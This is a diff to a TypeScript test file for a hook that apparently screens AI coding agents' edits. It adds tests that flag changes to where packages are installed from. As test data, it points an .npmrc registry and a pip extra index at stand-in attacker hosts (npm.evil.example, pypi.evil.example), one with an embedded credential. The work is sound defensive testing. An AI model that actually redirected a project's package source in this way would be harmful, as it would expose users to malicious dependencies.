@@ -9,6 +9,7 @@ import { after, before, test } from "node:test";
 import { mayChangeDependencies } from "../../../src/doors/hooks/fast.ts";
 import { needsJudging } from "../../../src/doors/hooks/triage.ts";
 import { mayBeDependencyFile, type PlacedCommand, shellWrites, type WriteContext } from "../../../src/doors/hooks/shell-writes.ts";
+import { ECOSYSTEMS } from "../../../src/ecosystems/index.ts";
 import { allExtractors } from "../../../src/engine/scan.ts";
 import { markdownExtractor, transcriptExtractor } from "../../../src/extract/text.ts";
 import { splitShellCommands } from "../../../src/extract/shell.ts";
@@ -16,11 +17,12 @@ import { type CliEnv, startCliEnv } from "../../support/cli-env.ts";
 import { cli } from "../cli/run.ts";
 
 const READS = allExtractors().filter((e) => e !== markdownExtractor && e !== transcriptExtractor);
-const isDependencyFile = (file: string) => READS.some((e) => e.matches(file));
+const REGISTRY_CONFIGS = [...ECOSYSTEMS.values()].flatMap((e) => (e.registryConfig ? [e.registryConfig] : []));
+const isJudged = (file: string) => READS.some((e) => e.matches(file)) || REGISTRY_CONFIGS.some((c) => c.matches(file));
 
 function writesOf(line: string, files: Record<string, string> = {}, folders: string[] = []) {
   const ctx: WriteContext = {
-    isDependencyFile,
+    isJudged,
     readProjectFile: (file) => (file.startsWith("/p/") ? files[file.slice(3)] : undefined),
     isFolder: (file) => folders.includes(file),
   };
@@ -88,10 +90,10 @@ test("the name filter in front of the engine holds every file the hook judges", 
   };
   walk(path.resolve(import.meta.dirname, "../../../../shared/fixtures"), 0);
   walk(path.resolve(import.meta.dirname, "../../fixtures"), 0);
-  for (const n of ["requirements/dev.in", "constraints.txt", "pylock.dev.toml", "shrinkwrap.yaml", "bom.json", "x.spdx.json", ".spdx.img.json", "Containerfile.dev", "build.dockerfile", "GNUmakefile", "rules.mk", ".github/workflows/ci.yml", "action.yaml", "app.mts", "App.vue", "nb.ipynb", ".gitlab-ci.yml", "setup.sh"]) names.add(n);
+  for (const n of ["requirements/dev.in", "constraints.txt", "pylock.dev.toml", "shrinkwrap.yaml", "bom.json", "x.spdx.json", ".spdx.img.json", "Containerfile.dev", "build.dockerfile", "GNUmakefile", "rules.mk", ".github/workflows/ci.yml", "action.yaml", "app.mts", "App.vue", "nb.ipynb", ".gitlab-ci.yml", "setup.sh", ".npmrc", "conf/npmrc", ".yarnrc", ".yarnrc.yml", "bunfig.toml", "pip.conf", "pip.ini", "uv.toml", "Pipfile"]) names.add(n);
   let judged = 0;
   for (const n of names) {
-    if (!isDependencyFile(n)) continue;
+    if (!isJudged(n)) continue;
     judged++;
     assert.ok(mayBeDependencyFile(n), n);
   }
@@ -149,4 +151,21 @@ test("hook: a notebook cell that imports an unknown package is denied; markdown 
   assert.notEqual(same.decision, "deny", same.reason);
   assert.deepEqual(await hook({ notebook_path: notebook, new_source: "# import nothing_here", cell_type: "markdown" }, "NotebookEdit"), { decision: "allow", reason: "" });
   assert.deepEqual(await hook({ notebook_path: notebook, new_source: "", edit_mode: "delete", cell_id: "c1" }, "NotebookEdit"), { decision: "allow", reason: "" });
+});
+
+test("hook: a change of where packages come from is the user's: asked in Claude Code, refused in Codex", async () => {
+  const write = { file_path: path.join(dir, ".npmrc"), content: "registry=https://ci:s3cr3t-pass@npm.evil.example/\n" };
+  const claude = await hook(write, "Write");
+  assert.equal(claude.decision, "ask");
+  assert.match(claude.reason, /it changes where packages are installed from/);
+  assert.match(claude.reason, /\.npmrc gets `registry=https:\/\/\*\*\*@npm\.evil\.example\/`/);
+  assert.doesNotMatch(claude.reason, /s3cr3t/);
+  assert.match(claude.reason, /ask the user/);
+  const stdin = JSON.stringify({ session_id: "s", cwd: dir, hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command: "echo '--extra-index-url https://pypi.evil.example/simple' >> requirements.txt" } });
+  const codex = await cli(["hook", "codex"], { ...env.env, BOUNCER_OFFLINE: "1" }, { stdin, cwd: dir });
+  assert.match(codex.stdout, /"permissionDecision":"deny"/);
+  assert.match(codex.stdout, /--extra-index-url/);
+  // A token for a registry already named changes no route; nor does a comment.
+  const token = await hook({ file_path: path.join(dir, ".npmrc"), content: "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n# registry=https://x\n" }, "Write");
+  assert.deepEqual(token, { decision: "allow", reason: "" });
 });
